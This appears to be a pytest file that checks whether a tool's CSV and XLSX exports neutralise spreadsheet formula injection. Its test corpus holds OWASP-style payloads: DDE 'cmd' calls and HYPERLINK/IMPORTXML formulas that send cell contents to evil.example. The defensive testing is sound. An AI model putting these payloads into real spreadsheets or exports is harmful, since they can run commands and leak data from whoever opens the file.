"""Exports against an injection corpus: every writer's output (CSV bytes, CSV text on standard
output, XLSX, files written by the command line) is opened with an independent reader (the csv
module, openpyxl) and checked cell by cell and header by header."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from core.__main__ import main
from core.export import (
    neutralise,
    to_csv_bytes,
    to_csv_text,
    to_xlsx_bytes,
    to_xlsx_workbook,
    write_table,
)

# payloads from the OWASP CSV-injection page and common spreadsheet exploits
INJECTION = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "-",
    "+",
    "=",
    "@",
]
NUMBERS_AS_TEXT = ["-34", "+1.5", "-2e3", "-.5", "12"]
HARMLESS = ["plain", "a=b", "O'Brien", "ünïcødé", " =leading space", "http://example.com"]


def _start_is_formula(text: str) -> bool:
    return bool(text) and text[0] in "=+-@\t\r\n＝＋－＠"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _table() -> pl.DataFrame:
    cells = INJECTION + NUMBERS_AS_TEXT + HARMLESS
    n = len(cells)
    return pl.DataFrame(
        {
            "customer_id": cells,
            "=cmd|' /C calc'!A0": [f"x{i}" for i in range(n)],
            "revenue": [-34.0 + i for i in range(n)],
            "orders": list(range(-3, n - 3)),
            "day": [date(2024, 1, 1)] * n,
            "tags": [[c, "ok"] for c in cells],
        }
    )


def _check_csv(text: str, table: pl.DataFrame) -> None:
    """Every CSV cell and header is either safe text or a plain number; text round-trips."""
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    for cell in header + [c for row in body for c in row]:
        assert not _start_is_formula(cell) or _is_number(cell), repr(cell)
    assert header[1] == "'=cmd|' /C calc'!A0"
    ids = [row[0] for row in body]
    for original, written in zip(table["customer_id"], ids):
        if _start_is_formula(original) and not _is_number(original):
            assert written == "'" + original
        else:
            assert written == original  # -34 stays -34, no apostrophe
    assert [float(row[2]) for row in body] == table["revenue"].to_list()  # numbers stay numbers
    assert [int(row[3]) for row in body] == table["orders"].to_list()


def _check_xlsx(data: bytes, table: pl.DataFrame) -> None:
    """No cell is a formula; text is stored as text, exactly as given, with no apostrophe."""
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[:2] == ["customer_id", "=cmd|' /C calc'!A0"]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    ids = [r[0] for r in rows[1:]]
    # openpyxl leaves Excel's escape of a carriage return (_x000D_) as it is; Excel decodes it
    assert [c.value.replace("_x000D_", "\r") for c in ids] == table["customer_id"].to_list()
    assert all(c.data_type == "s" and c.quotePrefix for c in ids)
    assert [r[2].value for r in rows[1:]] == table["revenue"].to_list()
    assert all(r[2].data_type == "n" for r in rows[1:])


def test_neutralise_prefixes_formulas_not_numbers() -> None:
    out = neutralise(pl.DataFrame({"v": [*INJECTION, *NUMBERS_AS_TEXT, None], "n": [-1.0] * 20}))
    expected = ["'" + s for s in INJECTION] + NUMBERS_AS_TEXT + [None]
    assert out["v"].to_list() == expected
    assert out["n"].to_list() == [-1.0] * 20


def test_csv_bytes_and_text() -> None:
    table = _table()
    data = to_csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")
    _check_csv(data[3:].decode("utf-8"), table)
    _check_csv(to_csv_text(table), table)


def test_xlsx_bytes() -> None:
    _check_xlsx(to_xlsx_bytes(_table()), _table())


def test_xlsx_workbook_sheet_names_are_valid_and_unique() -> None:
    t = pl.DataFrame({"a": [1]})
    wb = openpyxl.load_workbook(
        io.BytesIO(to_xlsx_workbook({"x" * 40: t, "X" * 40: t, "a/b:c": t}))
    )
    assert wb.sheetnames == ["x" * 31, "X" * 27 + " (2)", "a_b_c"]


def test_xlsx_nan_and_infinity_are_empty_cells() -> None:
    data = to_xlsx_bytes(pl.DataFrame({"v": [1.0, float("nan"), float("inf")]}))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws["A"]] == ["v", 1.0, None, None]


def test_write_table_files(tmp_path: Path) -> None:
    table = _table()
    _check_csv(write_table(table, tmp_path / "t.csv").read_bytes()[3:].decode(), table)
    _check_xlsx(write_table(table, tmp_path / "t.xlsx").read_bytes(), table)
    back = pl.read_parquet(write_table(table, tmp_path / "t.parquet"))
    assert back.equals(table)  # Parquet is data, not a spreadsheet: untouched
    with pytest.raises(ValueError, match=r"use a \.csv, \.xlsx or \.parquet name"):
        write_table(table, tmp_path / "t.json")


# ---------------------------------------------------------------- the command line
@pytest.fixture
def hostile_orders(tmp_path: Path) -> Path:
    """Customer ids from the corpus (all churned but one, so the churn list holds them)."""
    ids = [*INJECTION[:5], "-34", "plain"]
    lines = ['customer_id,order_date,revenue,=HYPERLINK("x")']
    lines += [f'"{c}",2024-01-0{i + 1},{10 + i},"=1+{i}"' for i, c in enumerate(ids)]
    lines.append("recent,2024-09-30,5,ok")
    path = tmp_path / "orders.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _check_cli_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for cell in [c for row in rows for c in row]:
        assert not _start_is_formula(cell) or _is_number(cell), repr(cell)
    return rows


@pytest.mark.parametrize("command", ["customers", "churn"])
def test_cli_stdout_is_neutralised(command: str, hostile_orders: Path, capsys) -> None:
    assert main([command, str(hostile_orders)]) == 0
    rows = _check_cli_csv(capsys.readouterr().out)
    ids = {r[rows[0].index("customer_id")] for r in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in ids and "-34" in ids  # the number keeps no apostrophe


@pytest.mark.parametrize("command", ["customers", "churn"])
def test_cli_out_files_are_neutralised(
    command: str, hostile_orders: Path, tmp_path: Path, capsys
) -> None:
    out = tmp_path / f"{command}.csv"
    assert main([command, str(hostile_orders), "--out", str(out)]) == 0
    rows = _check_cli_csv(out.read_bytes()[3:].decode("utf-8"))
    assert "'=cmd|' /C calc'!A0" in {r[rows[0].index("customer_id")] for r in rows[1:]}
    xlsx = tmp_path / f"{command}.xlsx"
    assert main([command, str(hostile_orders), "--out", str(xlsx)]) == 0
    ws = openpyxl.load_workbook(xlsx).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "=cmd|' /C calc'!A0" in {c.value for c in cells}  # as text, no apostrophe
    json.loads(json.dumps([c.value for c in cells], default=str))
